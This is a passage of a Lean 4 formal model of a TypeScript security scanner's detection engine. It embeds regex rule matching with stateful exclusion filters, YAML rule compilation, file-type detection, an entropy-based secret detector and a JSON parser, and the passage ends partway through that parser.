import Mathlib

/-!
Verification of the security-scanner detection engine against its
natural-language specification.

The definitions below are a shallow embedding of the TypeScript sources:

* `src/scanner/rule-engine.ts` (rule compilation, `scanContent`, the
  per-rule finding cap, exclusion filters, the zero-width-match guard);
* `src/scanner/heuristics.ts` (Shannon-entropy secret detector,
  `package.json` install-script analyzer, `runHeuristics` dispatch);
* `src/scanner/scan-file.ts` and the extended variant of `detectFileType`;
* `src/scanner/cache.ts` (`ScanCache`);
* `src/scanner/report.ts` (the JSON report payload `toJson`).

Modelling conventions:

* Content strings are `List Char`; positions are `Nat` indices into that list
  (JavaScript string indices are UTF-16 code units; all inputs used in
  concrete evaluations are ASCII, where the two notions agree).
* A host `RegExp` object with the `g` flag is modelled as a search function
  `MatcherFn` (given the subject and a start index, return the first match at
  or after that index as start/length, or `none`) together with an explicit
  mutable `lastIndex`, packaged as `JSRegex`.  `RegExp.prototype.exec` and
  `RegExp.prototype.test` on a `g`-flagged regex start searching at
  `lastIndex`, set `lastIndex` to the end of the match on success and reset
  it to `0` on failure; that statefulness is reproduced exactly, because the
  engine's exclusion filter depends on it.
* `while` loops are embedded with an explicit fuel parameter; exhausting the
  fuel yields `none`.  Termination of the source loop is then the theorem
  that sufficient fuel always yields `some`.
* Fallible host calls (`JSON.parse`, `new RegExp`) are modelled with
  `Option`; `loadRulesFromText`'s `throw` is modelled with `Except`.
-/

namespace SecurityScanner

/-! ## Data model (`src/scanner/types.ts`)

TypeScript's `Severity` is the union of the four literal strings
`"LOW" | "MEDIUM" | "HIGH" | "CRITICAL"`; the union is compile-time only
(a runtime cast `raw.severity as Severity` does not validate), so severity
and source are modelled as plain strings. -/

/-- A finding, as in `types.ts`: optional fields (`line?`, `category?`,
`remediation?`, `source?`) become `Option`; a JavaScript property that is
absent or `undefined` is `none`. -/
structure Finding where
  ruleId : String
  severity : String
  message : String
  file : String
  line : Option Nat := none
  category : Option String := none
  remediation : Option String := none
  source : Option String := none
deriving DecidableEq, Repr

/-- The host regex engine, abstracted: given the subject and a start index,
return the leftmost match at or after that index as `(start, length)`. -/
abbrev MatcherFn := List Char → Nat → Option (Nat × Nat)

/-- A well-behaved search function: a reported match starts at or after the
queried index and lies inside the subject.  Every real regex engine
satisfies this. -/
def ValidMatcher (m : MatcherFn) : Prop :=
  ∀ s i j len, m s i = some (j, len) → i ≤ j ∧ j + len ≤ s.length

/-- A compiled `RegExp` object carrying the `g` flag: its search function
plus the mutable `lastIndex` property. -/
structure JSRegex where
  fn : MatcherFn
  lastIndex : Nat

/-- A compiled rule (`CompiledRule` in `rule-engine.ts`).  The compiled
pattern regexes have their `lastIndex` reset to `0` before each use, so only
their search functions are stored; the exclude regexes are never reset, so
they keep their state. -/
structure CompiledRule where
  id : String
  category : String
  severity : String
  patterns : List String
  file_types : List String
  description : Option String := none
  remediation : Option String := none
  exclude_patterns : Option (List String) := none
  compiledPatterns : List MatcherFn := []
  excludeCompiled : List JSRegex := []

/-! ## Signature matcher (`rule-engine.ts`) -/

/-- `MAX_FINDINGS_PER_RULE_PER_FILE` in `rule-engine.ts`. -/
def maxFindingsPerRulePerFile : Nat := 20

/-- `buildLineIndex`: offsets at which each line begins — `0`, then `i + 1`
for every newline at offset `i`. -/
def buildLineIndex (content : List Char) : List Nat :=
  0 :: (List.range content.length).filterMap fun i =>
    if content.get? i = some '\n' then some (i + 1) else none

/-- The binary-search loop body of `indexToLine`.  `low` and `high` are
JavaScript numbers that stay small integers; `high` can reach `-1`, so both
are `Int`.  The fuel is an upper bound on iterations (the interval shrinks
every step) and is chosen large enough by the caller. -/
def indexToLineAux (lineIndex : List Nat) (position : Nat) :
    Nat → Int → Int → Int
  | 0, low, _ => low
  | fuel + 1, low, high =>
    if low ≤ high then
      let mid : Int := (low + high) / 2
      if lineIndex.getD mid.toNat 0 ≤ position then
        indexToLineAux lineIndex position fuel (mid + 1) high
      else
        indexToLineAux lineIndex position fuel low (mid - 1)
    else low

/-- `indexToLine`: binary search for the line containing `position`, then
`Math.max(1, low)`. -/
def indexToLine (lineIndex : List Nat) (position : Nat) : Nat :=
  (max 1 (indexToLineAux lineIndex position (lineIndex.length + 1) 0
    ((lineIndex.length : Int) - 1))).toNat

/-- `isFileTypeMatch`: the rule applies when its `file_types` name the
content's type or the sentinel `"any"`. -/
def isFileTypeMatch (rule : CompiledRule) (fileType : String) : Bool :=
  rule.file_types.contains fileType || rule.file_types.contains "any"

/-- `RegExp.prototype.test` on a `g`-flagged regex: search from `lastIndex`;
on success set `lastIndex` past the match, on failure reset it to `0`. -/
def regexTestG (re : JSRegex) (s : List Char) : Bool × JSRegex :=
  match re.fn s re.lastIndex with
  | some (j, len) => (true, { re with lastIndex := j + len })
  | none => (false, { re with lastIndex := 0 })

/-- `isExcluded`: `rule._excludeCompiled.some((re) => re.test(match))`.
`Array.prototype.some` short-circuits, so regexes after the first hit keep
their state; the updated regex objects are returned alongside the answer. -/
def isExcluded : List JSRegex → List Char → Bool × List JSRegex
  | [], _ => (false, [])
  | re :: rest, text =>
    let p := regexTestG re text
    if p.1 then (true, p.2 :: rest)
    else
      let q := isExcluded rest text
      (q.1, p.2 :: q.2)

/-- The matched substring `match[0]`. -/
def sliceChars (s : List Char) (j len : Nat) : List Char :=
  (s.drop j).take len

/-- The finding emitted by `scanContent` for a match of `rule` at offset
`j`. -/
def mkSignatureFinding (rule : CompiledRule) (filePath : String)
    (lineIndex : List Nat) (j : Nat) : Finding :=
  { ruleId := rule.id
    severity := rule.severity
    message := rule.description.getD ("Matched rule " ++ rule.id)
    file := filePath
    line := some (indexToLine lineIndex j)
    category := some rule.category
    remediation := rule.remediation
    source := some "signature" }

/-- The `while ((match = regex.exec(content)) !== null)` loop of
`scanContent`, for one compiled pattern.  Arguments after the fuel: the
regex's `lastIndex`, the rule's exclude-regex states, and `ruleHits`.
Returns the findings this loop emitted, the final exclude states and the
final `ruleHits`; `none` when the fuel runs out. -/
def matchLoop (m : MatcherFn) (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    Nat → Nat → List JSRegex → Nat →
    Option (List Finding × List JSRegex × Nat)
  | 0, li, exc, hits =>
    -- Out of fuel: if the regex has no further match the loop exits anyway;
    -- otherwise give up (the termination theorem shows this cannot happen
    -- for a valid matcher when the caller supplies `content.length + 2`).
    match m content li with
    | none => some ([], exc, hits)
    | some _ => none
  | fuel + 1, li, exc, hits =>
    match m content li with
    | none => some ([], exc, hits)
    | some (j, len) =>
      if len = 0 then
        -- `regex.lastIndex++` after exec set it to the match start.
        matchLoop m content lineIndex rule filePath fuel (j + 1) exc hits
      else
        let li' := j + len
        let p := isExcluded exc (sliceChars content j len)
        if p.1 then
          matchLoop m content lineIndex rule filePath fuel li' p.2 hits
        else
          let f := mkSignatureFinding rule filePath lineIndex j
          let hits' := hits + 1
          if maxFindingsPerRulePerFile ≤ hits' then some ([f], p.2, hits')
          else
            match matchLoop m content lineIndex rule filePath fuel li' p.2 hits' with
            | none => none
            | some (fs, exc', h') => some (f :: fs, exc', h')

/-- The `for (const regex of rule._compiled)` loop of `scanContent`: run
`matchLoop` for each pattern, threading the exclude-regex states and
`ruleHits`, breaking once the per-rule cap is reached.  The fuel for each
inner loop is `content.length + 2`, which the termination theorem shows
sufficient. -/
def patternsLoop (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    List MatcherFn → List JSRegex → Nat →
    Option (List Finding × List JSRegex)
  | [], exc, _ => some ([], exc)
  | m :: ms, exc, hits =>
    match matchLoop m content lineIndex rule filePath (content.length + 2) 0 exc hits with
    | none => none
    | some (fs, exc', hits') =>
      if maxFindingsPerRulePerFile ≤ hits' then some (fs, exc')
      else
        match patternsLoop content lineIndex rule filePath ms exc' hits' with
        | none => none
        | some (fs2, exc'') => some (fs ++ fs2, exc'')

/-- The `for (const rule of rules)` loop of `scanContent`.  The source
mutates each rule's exclude regexes in place; here the updated rules are
returned alongside the findings. -/
def scanRules (content : List Char) (lineIndex : List Nat)
    (filePath fileType : String) :
    List CompiledRule → Option (List Finding × List CompiledRule)
  | [] => some ([], [])
  | r :: rs =>
    if isFileTypeMatch r fileType then
      match patternsLoop content lineIndex r filePath r.compiledPatterns r.excludeCompiled 0 with
      | none => none
      | some (fs, exc') =>
        match scanRules content lineIndex filePath fileType rs with
        | none => none
        | some (fs2, rs') => some (fs ++ fs2, { r with excludeCompiled := exc' } :: rs')
    else
      match scanRules content lineIndex filePath fileType rs with
      | none => none
      | some (fs2, rs') => some (fs2, r :: rs')

/-- `scanContent(content, filePath, fileType, rules)`.  Returns the emitted
findings and the rules with their updated exclude-regex states (`none` only
on fuel exhaustion, which the termination theorem rules out for valid
matchers). -/
def scanContent (content : List Char) (filePath fileType : String)
    (rules : List CompiledRule) : Option (List Finding × List CompiledRule) :=
  scanRules content (buildLineIndex content) filePath fileType rules

/-! ## A concrete matcher: literal patterns

A regex whose source is a literal (no metacharacters) matches exactly the
occurrences of that literal.  `litFind pat` is the corresponding search
function: the leftmost occurrence of `pat` at or after the queried index.
It instantiates the abstract host engine in concrete evaluations. -/

/-- Does `pat` occur in `s` at offset `j`? -/
def litMatchAt (pat s : List Char) (j : Nat) : Bool :=
  pat.isPrefixOf (s.drop j)

/-- Leftmost occurrence of the literal `pat` at or after index `i`. -/
def litFind (pat : List Char) : MatcherFn := fun s i =>
  match (List.range (s.length + 1)).find? (fun j => decide (i ≤ j) && litMatchAt pat s j) with
  | some j => some (j, pat.length)
  | none => none

/-! ## Concrete scan inputs used in claim evaluations -/

/-- Spec scenario "exclusion suppression", reduced to literals: a rule whose
single pattern and single exclude pattern are the literal `EXAMPLE`.  Both
regexes are compiled with the `g` flag, as `loadRulesFromText` always
does. -/
def exclusionRule : CompiledRule :=
  { id := "RULE_X", category := "secrets", severity := "HIGH",
    patterns := ["EXAMPLE"], file_types := ["any"],
    exclude_patterns := some ["EXAMPLE"],
    compiledPatterns := [litFind "EXAMPLE".toList],
    excludeCompiled := [⟨litFind "EXAMPLE".toList, 0⟩] }

/-- Two occurrences of the excluded text. -/
def exclusionContent2 : List Char := "EXAMPLE EXAMPLE".toList

/-- Four occurrences of the excluded text. -/
def exclusionContent4 : List Char := "EXAMPLE EXAMPLE EXAMPLE EXAMPLE".toList

/-- Spec scenario "per-rule cap": a rule matching the literal `BAD`. -/
def capRule : CompiledRule :=
  { id := "RULE_BAD", category := "test", severity := "HIGH",
    patterns := ["BAD"], file_types := ["any"],
    compiledPatterns := [litFind "BAD".toList] }

/-- A file with 25 disjoint occurrences of the literal `BAD`. -/
def capContent : List Char := (List.replicate 25 "BAD ".toList).flatten

/-- A valid matcher that reports a zero-width match at every position — the
behaviour of a regex such as `x*` on text without `x`. -/
def zwMatcher : MatcherFn := fun s i => if i ≤ s.length then some (i, 0) else none

/-- A rule compiled from a pattern that can match the empty string. -/
def zwRule : CompiledRule :=
  { id := "RULE_ZW", category := "test", severity := "LOW",
    patterns := ["x*"], file_types := ["any"],
    compiledPatterns := [zwMatcher] }

/-! ## Rule compiler (`loadRulesFromText` in `rule-engine.ts`)

The host YAML parser (`parseYaml` from the `yaml` package) is a library
call; its output is modelled by the `Yaml` value type below, and
`loadRulesFromYaml` is `loadRulesFromText` applied to that output.  The
host `new RegExp` constructor is likewise abstracted as a `RegexCompiler`
returning `none` exactly when the host throws a `SyntaxError`. -/

/-- A parsed YAML document node. -/
inductive Yaml where
  | null
  | bool (b : Bool)
  | num (q : ℚ)
  | str (s : String)
  | seq (items : List Yaml)
  | map (fields : List (String × Yaml))

/-- JavaScript truthiness of a parsed YAML value, as used by the
required-field check `!raw?.id || …` (empty strings and `0` are falsy,
arrays and objects are truthy). -/
def Yaml.truthy : Yaml → Bool
  | .null => false
  | .bool b => b
  | .num q => decide (q ≠ 0)
  | .str s => s ≠ ""
  | .seq _ => true
  | .map _ => true

/-- Optional property access `raw?.key`: defined only on mapping nodes;
everything else yields `undefined` (`none`). -/
def Yaml.getField : Yaml → String → Option Yaml
  | .map fields, k => fields.lookup k
  | _, _ => none

/-- A string-valued field.  Well-typed rule files (cf. `Rule` in `types.ts`)
carry strings in `id`/`category`/`severity`/…; for ill-typed nodes the
source would store the raw value unchanged, which this model flattens to
`""`. -/
def Yaml.asString : Yaml → String
  | .str s => s
  | _ => ""

/-- `raw?.k` is present and truthy. -/
def truthyField (raw : Yaml) (k : String) : Bool :=
  ((raw.getField k).map Yaml.truthy).getD false

/-- The guard `!raw?.id || !raw?.category || !raw?.severity ||
!raw?.patterns || !raw?.file_types` (negated). -/
def requiredFieldsTruthy (raw : Yaml) : Bool :=
  truthyField raw "id" && truthyField raw "category" && truthyField raw "severity"
    && truthyField raw "patterns" && truthyField raw "file_types"

/-- `normalized.includes("(?i)")`. -/
def containsInlineI : List Char → Bool
  | '(' :: '?' :: 'i' :: ')' :: _ => true
  | _ :: rest => containsInlineI rest
  | [] => false

/-- `normalized.replace(/\(\?i\)/g, "")`: remove every occurrence of the
token `(?i)`, scanning left to right. -/
def stripInlineI : List Char → List Char
  | '(' :: '?' :: 'i' :: ')' :: rest => stripInlineI rest
  | c :: rest => c :: stripInlineI rest
  | [] => []

/-- Flag normalization before regex compilation: if the source contains the
PCRE-style inline token `(?i)` anywhere, strip every occurrence and request
the case-insensitive flag (`gi` instead of `g`). -/
def normalizePattern (pattern : String) : String × Bool :=
  if containsInlineI pattern.toList then (⟨stripInlineI pattern.toList⟩, true)
  else (pattern, false)

/-- The host `new RegExp(source, flags)` construction, abstracted: given the
normalized source and the case-insensitivity flag (the `g` flag is always
set), return the search function, or `none` when the host rejects the
source (`PatternCompileError`). -/
abbrev RegexCompiler := String → Bool → Option MatcherFn

/-- Compile one entry of a `patterns`/`exclude_patterns` array.  A
non-string entry makes the source's try-block throw (strings are required
for `.includes`/`new RegExp`), which is caught and mapped to `null`. -/
def compilePattern (rc : RegexCompiler) (p : Yaml) : Option MatcherFn :=
  match p with
  | .str s =>
    let n := normalizePattern s
    rc n.1 n.2
  | _ => none

/-- The `patterns` array of a raw rule record (`Array.isArray(raw.patterns)
? raw.patterns : []`). -/
def rawPatterns (raw : Yaml) : List Yaml :=
  match raw.getField "patterns" with
  | some (.seq xs) => xs
  | _ => []

/-- The `exclude_patterns` array of a raw rule record. -/
def rawExcludePatterns (raw : Yaml) : List Yaml :=
  match raw.getField "exclude_patterns" with
  | some (.seq xs) => xs
  | _ => []

/-- The body of `loadRulesFromText`'s loop for one raw record: skip the
record when a required field is missing or falsy; otherwise compile the
pattern arrays (dropping entries the host rejects) and push the rule —
unconditionally, however many compiled patterns survive. -/
def compileRawRule (rc : RegexCompiler) (raw : Yaml) : Option CompiledRule :=
  if !requiredFieldsTruthy raw then none
  else
    some
      { id := ((raw.getField "id").map Yaml.asString).getD ""
        category := ((raw.getField "category").map Yaml.asString).getD ""
        severity := ((raw.getField "severity").map Yaml.asString).getD ""
        patterns := (rawPatterns raw).map Yaml.asString
        file_types :=
          match raw.getField "file_types" with
          | some (.seq xs) => xs.map Yaml.asString
          | _ => []
        description := (raw.getField "description").map Yaml.asString
        remediation := (raw.getField "remediation").map Yaml.asString
        exclude_patterns :=
          (raw.getField "exclude_patterns").map fun y =>
            match y with
            | .seq xs => xs.map Yaml.asString
            | _ => []
        compiledPatterns := (rawPatterns raw).filterMap (compilePattern rc)
        excludeCompiled :=
          ((rawExcludePatterns raw).filterMap (compilePattern rc)).map
            fun fn => ⟨fn, 0⟩ }

/-- `loadRulesFromText`, after the host YAML parse: a non-sequence top level
throws; otherwise each record is compiled by `compileRawRule`. -/
def loadRulesFromYaml (rc : RegexCompiler) (parsed : Yaml) :
    Except String (List CompiledRule) :=
  match parsed with
  | .seq items => .ok (items.filterMap (compileRawRule rc))
  | _ => .error "Rules file must contain a YAML array of rules."

/-- Regex metacharacters: a source containing one of these is not a plain
literal.  (`\x7b`/`\x7d` are the brace characters.) -/
def isRegexMeta (c : Char) : Bool :=
  c ∈ (['\\', '^', '$', '.', '*', '+', '?', '(', ')', '[', ']', '|']
    ++ [Char.ofNat 123, Char.ofNat 125])

/-- Case-insensitive literal search. -/
def litFindCI (pat : List Char) : MatcherFn := fun s i =>
  litFind (pat.map Char.toLower) (s.map Char.toLower) i

/-- A concrete instance of the host regex compiler that supports exactly
the literal patterns: any source containing a regex metacharacter is
rejected.  It agrees with `new RegExp` on every literal source and on the
invalid source `(` (which `new RegExp` rejects with a `SyntaxError`). -/
def litCompile : RegexCompiler := fun source ci =>
  if source.toList.any isRegexMeta then none
  else if ci then some (litFindCI source.toList)
  else some (litFind source.toList)

/-- A syntactically well-formed rule record whose only pattern, `(`, fails
regex compilation. -/
def badPatternRule : Yaml :=
  Yaml.map
    [("id", Yaml.str "R1"), ("category", Yaml.str "test"),
     ("severity", Yaml.str "HIGH"),
     ("patterns", Yaml.seq [Yaml.str "("]),
     ("file_types", Yaml.seq [Yaml.str "any"])]

/-! ## File-type detection (`detectFileType`)

The repository carries two versions of `detectFileType`: the one in
`scan-file.ts` (namespace `ScanFileTs` below) and an extended one
(namespace `ScanFileExt`) that also maps `.tsx`/`.jsx` and folds many other
languages onto `python`/`javascript`/`bash`.  `basename`/`extname` are
node's `path` helpers, modelled for POSIX paths: the basename is the last
non-empty `/`-separated segment, and the extension runs from the last `.`
of the basename unless that dot is its first character. -/

/-- Split on a separator character (keeping empty segments). -/
def splitAux (sep : Char) : List Char → List Char → List (List Char)
  | [], acc => [acc.reverse]
  | c :: rest, acc =>
    if c = sep then acc.reverse :: splitAux sep rest []
    else splitAux sep rest (c :: acc)

def splitOnChar (sep : Char) (s : List Char) : List (List Char) :=
  splitAux sep s []

/-- `path.basename` (POSIX): last non-empty path segment (trailing slashes
ignored).  The root path `/` itself maps to `""` here instead of node's
`"/"`; no caller distinguishes that case. -/
def basenameChars (p : List Char) : List Char :=
  ((splitOnChar '/' p).filter (fun seg => seg ≠ [])).getLastD []

def basename (p : String) : String := ⟨basenameChars p.toList⟩

/-- Index of the last `.` in a basename. -/
def lastDotIndex (b : List Char) : Option Nat :=
  ((List.range b.length).filter (fun i => b.get? i = some '.')).getLast?

/-- `path.extname`: from the last `.` (inclusive) to the end, except when
that dot is the first character of the basename (dotfiles have no
extension) or there is no dot at all. -/
def extnameChars (b : List Char) : List Char :=
  match lastDotIndex b with
  | none => []
  | some 0 => []
  | some i => b.drop i

/-- `extname(filePath).toLowerCase()` (ASCII lowering; extensions are
ASCII). -/
def extnameLower (p : String) : String :=
  ⟨(extnameChars (basenameChars p.toList)).map Char.toLower⟩

/-- `BINARY_EXTENSIONS` in `scan-file.ts`. -/
def binaryExtensions : List String :=
  [".exe", ".bin", ".dll", ".so", ".dylib", ".jar"]

namespace ScanFileTs

/-- `detectFileType` as written in `scan-file.ts` (the TS return type
allows `null` but every branch returns a string, so the model returns
`String`). -/
def detectFileType (filePath : String) : String :=
  let base := basename filePath
  let ext := extnameLower filePath
  if base == "SKILL.md" then "markdown"
  else if base == "manifest.json" then "manifest"
  else if base == "package.json" then "json"
  else if ext == ".md" || ext == ".mdx" || ext == ".txt" || ext == ".rst" then "markdown"
  else if ext == ".yaml" || ext == ".yml" || ext == ".toml" || ext == ".ini"
      || ext == ".cfg" || ext == ".conf" then "markdown"
  else if ext == ".json" then "json"
  else if ext == ".py" then "python"
  else if ext == ".ts" then "typescript"
  else if ext == ".js" || ext == ".mjs" || ext == ".cjs" then "javascript"
  else if ext == ".sh" || ext == ".bash" then "bash"
  else if binaryExtensions.contains ext then "binary"
  else "text"

end ScanFileTs

namespace ScanFileExt

/-- The extended `detectFileType` (the copy shipped next to
`ide-extensions.ts`): adds `.tsx`/`.d.ts`/`.jsx` branches and folds
C-family, Go, Java, Rust, … onto `python`/`javascript`/`bash`.  Note the
`ext === ".d.ts"` comparison is dead code: `extname` returns `".ts"` for
`x.d.ts`. -/
def detectFileType (filePath : String) : String :=
  let base := basename filePath
  let ext := extnameLower filePath
  if base == "SKILL.md" then "markdown"
  else if base == "manifest.json" then "manifest"
  else if base == "package.json" then "json"
  else if ext == ".md" || ext == ".mdx" || ext == ".txt" || ext == ".rst" then "markdown"
  else if ext == ".yaml" || ext == ".yml" || ext == ".toml" || ext == ".ini"
      || ext == ".cfg" || ext == ".conf" then "markdown"
  else if ext == ".json" then "json"
  else if ext == ".py" then "python"
  else if ext == ".ts" || ext == ".tsx" || ext == ".d.ts" then "typescript"
  else if ext == ".js" || ext == ".mjs" || ext == ".cjs" || ext == ".jsx" then "javascript"
  else if ext == ".sh" || ext == ".bash" then "bash"
  else if ext == ".go" then "python"
  else if ext == ".java" || ext == ".class" then "python"
  else if ext == ".cpp" || ext == ".cc" || ext == ".cxx" || ext == ".c"
      || ext == ".h" || ext == ".hpp" then "python"
  else if ext == ".cs" then "python"
  else if ext == ".swift" then "python"
  else if ext == ".rb" then "python"
  else if ext == ".php" then "javascript"
  else if ext == ".lua" then "bash"
  else if ext == ".pl" || ext == ".pm" then "bash"
  else if ext == ".rs" then "python"
  else if ext == ".kt" then "python"
  else if ext == ".scala" then "python"
  else if ext == ".groovy" then "python"
  else if ext == ".dart" then "python"
  else if ext == ".vue" || ext == ".svelte" then "javascript"
  else if ext == ".html" || ext == ".htm" then "javascript"
  else if ext == ".css" || ext == ".scss" || ext == ".sass" || ext == ".less" then "markdown"
  else if binaryExtensions.contains ext then "binary"
  else "text"

end ScanFileExt

/-! ## Heuristic analyzers (`heuristics.ts`) -/

/-- `MAX_HEURISTIC_FINDINGS` in `heuristics.ts`. -/
def maxHeuristicFindings : Nat := 10

/-- The candidate character class `[A-Za-z0-9+/_=\-]`. -/
def isCandChar (c : Char) : Bool :=
  ('A' ≤ c && c ≤ 'Z') || ('a' ≤ c && c ≤ 'z') || ('0' ≤ c && c ≤ '9')
    || c = '+' || c = '/' || c = '_' || c = '=' || c = '-'

/-- Maximal runs of candidate characters (the matches of the greedy global
regex `[A-Za-z0-9+/_=\-]{20,}` are exactly those runs of length ≥ 20). -/
def candRunsAux : List Char → List Char → List (List Char)
  | [], acc => if acc.isEmpty then [] else [acc.reverse]
  | c :: rest, acc =>
    if isCandChar c then candRunsAux rest (c :: acc)
    else if acc.isEmpty then candRunsAux rest []
    else acc.reverse :: candRunsAux rest []

def candRuns (s : List Char) : List (List Char) := candRunsAux s []

/-- `extractCandidateStrings`: all regex matches in order; the loop breaks
after the push that makes the count exceed 2000, so up to 2001 candidates
are collected. -/
def extractCandidateStrings (content : List Char) : List (List Char) :=
  ((candRuns content).filter fun r => 20 ≤ r.length).take 2001

/-- The character histogram built by `shannonEntropy`'s `freq` map: one
count per distinct character. -/
def charCounts (value : List Char) : List Nat :=
  value.dedup.map fun c => value.count c

/-- The comparison `shannonEntropy(value) >= num/den`, decided exactly in
integer arithmetic.  With histogram counts `cᵢ` summing to `n > 0`, the
entropy is `H = log2 n − (1/n)·Σ cᵢ·log2 cᵢ`, so

    H ≥ num/den  ⟺  den·n·H ≥ num·n
                 ⟺  log2 (n ^ (den·n)) ≥ num·n + log2 (Π cᵢ ^ (den·cᵢ))
                 ⟺  n ^ (den·n) ≥ 2 ^ (num·n) · Π cᵢ ^ (den·cᵢ).

For `n = 0` the source returns entropy `0`.  The source computes `H` in
IEEE doubles via `Math.log2`; the model decides the exact real comparison
(`entropyGe_iff_rpow` below connects it to the real-valued entropy). -/
def entropyGe (value : List Char) (num den : Nat) : Bool :=
  let n := value.length
  if n = 0 then num == 0
  else
    let counts := charCounts value
    decide (2 ^ (num * n) * ((counts.map fun c => c ^ (den * c)).prod) ≤ n ^ (den * n))

/-- The finding pushed by `detectHighEntropyStrings` — note it carries no
`line` field. -/
def mkEntropyFinding (file : String) : Finding :=
  { ruleId := "HEURISTIC_HIGH_ENTROPY_SECRET"
    severity := "HIGH"
    message := "High-entropy string that may be a secret or token"
    file := file
    category := some "heuristic_secrets"
    remediation := some "Remove hardcoded secrets. Use environment variables or a vault."
    source := some "heuristic" }

/-- The candidate loop of `detectHighEntropyStrings`: skip short
candidates, emit on entropy ≥ 4.2 (= 21/5), break once 10 findings are
collected. -/
def detectLoop (file : String) : List (List Char) → Nat → List Finding
  | [], _ => []
  | cand :: rest, count =>
    if cand.length < 20 then detectLoop file rest count
    else if entropyGe cand 21 5 then
      if maxHeuristicFindings ≤ count + 1 then [mkEntropyFinding file]
      else mkEntropyFinding file :: detectLoop file rest (count + 1)
    else detectLoop file rest count

def detectHighEntropyStrings (file : String) (content : List Char) : List Finding :=
  detectLoop file (extractCandidateStrings content) 0

/-! ### A model of the host `JSON.parse`

`scanPackageScripts` starts with `JSON.parse(content)`.  The host parser is
modelled below: a `Json` value type and a fuel-indexed recursive-descent
parser over `List Char`.  Numbers are parsed into exact rationals (the host
produces the nearest IEEE double; every number appearing in the inputs and
payloads used here is a small integer, where the two agree).  A duplicate
object key keeps its first position with the later value, as in
JavaScript.  Escape sequences cover the JSON set; a `\uXXXX` escape that
is a lone surrogate (impossible to hold in a Lean `Char`) degrades to the
null character and is not exercised by any input here. -/

inductive Json where
  | null
  | bool (b : Bool)
  | num (q : ℚ)
  | str (s : String)
  | arr (items : List Json)
  | obj (fields : List (String × Json))

/-- JSON insignificant whitespace. -/
def jsonWsChar (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r'

def skipWs (s : List Char) : List Char := s.dropWhile jsonWsChar

def lbrace : Char := Char.ofNat 123
def rbrace : Char := Char.ofNat 125

def parseHexDigit (c : Char) : Option Nat :=
  if '0' ≤ c && c ≤ '9' then some (c.toNat - 48)
  else if 'a' ≤ c && c ≤ 'f' then some (c.toNat - 87)
  else if 'A' ≤ c && c ≤ 'F' then some (c.toNat - 55)
  else none

/-- The body of a JSON string after the opening quote: content characters
and the remaining input after the closing quote. -/
def parseStringBody : List Char → Option (List Char × List Char)
  | [] => none
  | '"' :: rest => some ([], rest)
  | '\\' :: 'u' :: h1 :: h2 :: h3 :: h4 :: rest =>
    match parseHexDigit h1, parseHexDigit h2, parseHexDigit h3, parseHexDigit h4 with
    | some a, some b, some c, some d =>
      (parseStringBody rest).map fun p =>
        (Char.ofNat (((a * 16 + b) * 16 + c) * 16 + d) :: p.1, p.2)
    | _, _, _, _ => none
  | '\\' :: e :: rest =>
    let esc : Option Char :=
      if e = '"' then some '"'
      else if e = '\\' then some '\\'
      else if e = '/' then some '/'
      else if e = 'b' then some (Char.ofNat 8)
      else if e = 'f' then some (Char.ofNat 12)
      else if e = 'n' then some '\n'
      else if e = 'r' then some '\r'
      else if e = 't' then some '\t'
      else none
    match esc with
    | some c => (parseStringBody rest).map fun p => (c :: p.1, p.2)
    | none => none
  | c :: rest =>
    if c.toNat < 32 then none
    else (parseStringBody rest).map fun p => (c :: p.1, p.2)

def digitsToNat (ds : List Char) : Nat :=
  ds.foldl (fun a c => a * 10 + (c.toNat - 48)) 0

/-- A JSON number: `-? (0 | [1-9][0-9]*) frac? exp?` (leading zeros are
rejected, as by `JSON.parse`). -/
def parseNumber (s : List Char) : Option (ℚ × List Char) :=
  let (neg, s1) := match s with
    | '-' :: r => (true, r)
    | _ => (false, s)
  let ds := s1.takeWhile Char.isDigit
  if ds.isEmpty then none
  else if 1 < ds.length && ds.headD '0' = '0' then none
  else
    let s2 := s1.dropWhile Char.isDigit
    let intPart : ℚ := (digitsToNat ds : ℚ)
    let (fracPart, s3) : ℚ × List Char := match s2 with
      | '.' :: r =>
        let fs := r.takeWhile Char.isDigit
        if fs.isEmpty then ((0 : ℚ), s2)
        else ((digitsToNat fs : ℚ) / ((10 : ℚ) ^ fs.length), r.dropWhile Char.isDigit)
      | _ => ((0 : ℚ), s2)
    -- a malformed fraction like `1.` is a parse error in JSON; it is
    -- detected because `s3` then still starts with `.`
    match s3 with
    | '.' :: _ => none
    | _ =>
      let (expPart, s4) : Option ℚ × List Char := match s3 with
        | 'e' :: r | 'E' :: r =>
          let (eneg, r1) := match r with
            | '-' :: r2 => (true, r2)
            | '+' :: r2 => (false, r2)
            | _ => (false, r)
          let es := r1.takeWhile Char.isDigit
          if es.isEmpty then (none, s3)
          else
            let e := digitsToNat es
            (some (if eneg then ((10 : ℚ) ^ e)⁻¹ else ((10 : ℚ) ^ e)),
              r1.dropWhile Char.isDigit)
        | _ => (some 1, s3)
      match expPart with
      | none => none
      | some scale =>
        let v := (intPart + fracPart) * scale
        some (if neg then -v else v, s4)

/-- Insert an object member: a duplicate key keeps its original position
but takes the later value, as in a JavaScript object. -/
def insertMember : List (String × Json) → String → Json → List (String × Json)
  | [], k, v => [(k, v)]
  | (k0, v0) :: rest, k, v =>
    if k0 = k then (k0, v) :: rest
    else (k0, v0) :: insertMember rest k v

/-- Parser modes: a value, the items of an array (after at least one item
is required), or the members of an object. -/
inductive JMode where
  | val
  | items (acc : List Json)
  | members (acc : List (String × Json))

/-- Recursive-descent JSON parsing, fuel-indexed (the caller supplies
`2·|input| + 4`, ample since at most two recursion levels separate
character consumptions). -/
def parseJ : Nat → JMode → List Char → Option (Json × List Char)
  | 0, _, _ => none
  | fuel + 1, JMode.val, s =>
    match skipWs s with
    | [] => none
    | c :: rest =>
      if c = lbrace then
        match skipWs rest with
        | c2 :: r2 =>
          if c2 = rbrace then some (Json.obj [], r2)
          else parseJ fuel (JMode.members []) (c2 :: r2)
        | [] => none
      else if c = '[' then
        match skipWs rest with
        | ']' :: r2 => some (Json.arr [], r2)
        | l => parseJ fuel (JMode.items []) l
      else if c = '"' then
        (parseStringBody rest).map fun p => (Json.str ⟨p.1⟩, p.2)
      else
        match c :: rest with
        | 'n' :: 'u' :: 'l' :: 'l' :: r => some (Json.null, r)
        | 't' :: 'r' :: 'u' :: 'e' :: r => some (Json.bool true, r)
